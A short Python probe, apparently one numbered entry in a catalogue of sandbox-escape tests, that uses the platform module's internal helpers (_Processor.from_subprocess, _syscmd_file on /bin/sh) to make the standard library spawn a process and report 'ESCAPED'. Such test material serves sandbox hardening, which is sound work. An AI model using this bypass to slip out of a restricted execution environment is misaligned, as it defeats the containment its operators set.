# escape: 029
# technique: stdlib helpers that spawn a process themselves: platform.processor / _syscmd_file
# family: dexec
# goal: exec
# first-seen: variation
import platform
g = platform.platform.__globals__
s = platform._Processor.from_subprocess()
f = g.get('_syscmd_file')
if s or (f and f('/bin/sh')): print('ESCAPED:platform spawned', s or f('/bin/sh'))
